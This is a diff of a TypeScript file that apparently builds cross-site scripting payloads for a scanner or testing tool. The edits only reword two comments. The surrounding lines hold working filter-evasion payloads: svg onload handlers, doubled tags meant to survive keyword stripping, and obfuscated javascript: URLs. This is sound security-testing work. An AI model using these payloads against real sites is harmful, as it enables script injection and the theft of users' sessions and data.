@@ -34,7 +34,7 @@ const markup: Payload[] = [
   // all in upper case, or without the signs of a call
   { value: `<svg onload=${upperCall}>` },
   { value: `<svg onload=${addressCall}>` },
-  // words that are taken out once
+  // words that are removed once
   { value: `<sscriptcript>${call}</sscriptcript>` },
   { value: `<svg ononload=load=${call}>` },
   // lists of tags, handlers and calls
@@ -134,7 +134,7 @@ function urlPayloads({ element, attribute }: Reflection & { kind: 'url' }): Payl
     `JaVaScRiPt:${call}`,
     `java\tscript:${call}`,
     `\u0001javascript:${bareCall}`,
-    // taken out once; written as a reference
+    // removed once; written as a reference
     `javajavascriptscript:${call}`,
     `javascript&colon;${call}`,
     `javascript:${spelledCall}`,
